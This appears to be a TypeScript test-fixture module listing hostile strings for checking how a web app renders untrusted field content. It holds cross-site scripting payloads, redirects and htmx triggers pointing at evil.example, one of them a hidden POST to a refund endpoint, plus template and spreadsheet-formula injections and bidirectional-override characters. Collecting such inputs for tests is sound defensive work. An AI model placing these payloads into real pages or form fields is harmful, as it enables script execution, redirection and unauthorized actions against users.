const MARKUP = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel="stylesheet" href="//evil.example">',
  '<style>*{display:none}</style>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</pre><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<div hx-get="//evil.example" hx-trigger="load">',
  '" hx-post="/office/payments/x/refund" hx-trigger="load',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '" style="position:fixed;inset:0',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&amp;amp;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];
const SCHEMES = [
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
];
const TEMPLATES = [
  '{amount}',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '$&$1$$',
  '{__proto__}',
];
const FORMULAS = ['=HYPERLINK("//evil.example")', '+1+cmd', '-2+3', '@SUM(1)'];
const MARKS = [
  '\u202eevil\u202c',
  '\u2066evil',
  '\u2067evil',
  '\u200fevil\u200e',
  'zero\u200bwidth\u200djoined\ufeff',
  'e\u0301\u0302\u0303\u0304\u0305\u0306',
  '\u{1f4b8}\u{1f469}\u200d\u{1f469}\u200d\u{1f467}',
  'سَارَةُ ٱلْعَلِيّ',
  'عربي English 123 عربي',
  'שלום',
  '１２３',
  'back\\slash',
  'quote\'d "twice"',
  'a  b',
  '𝓕𝓪𝓷𝓬𝔂',
];
const LONG = ['ض'.repeat(10_000)];

/** What leaves the isolate in which it is shown, and would turn what is around it. */
export const TURNING_TEXTS: readonly string[] = [
  '\u2069\u202eevil',
  '\u2069\u2069\u202bevil',
  '\u202e\u2067evil',
  '\u2066\u2069\u2069\u202eevil\u2068',
  'evil\u2029\u202eevil',
];

/** Without a picture, some of them nothing that HTML can have. */
export const CONTROL_TEXTS: readonly string[] = [
  'nul\u0000byte',
  'bell\u0007back\u0008',
  'escape\u001b[31m red',
  'separated\u001c\u202eevil',
  'next\u0085\u202eevil',
  'delete\u007f',
];

/** What others may have written into any field. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...SCHEMES,
  ...TEMPLATES,
  ...FORMULAS,
  ...MARKS,
  ...LONG,
];

/**
 * The same in few texts, for pages, each of which takes long to make and to read: where one would break out, they all break out, and
 * one that is not shown as it came is not shown whole. What runs as an address does so by how it begins, so it stands alone.
 */
export const JOINED_HOSTILE_TEXTS: readonly string[] = [
  MARKUP.join(' '),
  ...SCHEMES,
  [...TEMPLATES, ...FORMULAS, ...MARKS].join(' '),
  ...LONG,
];
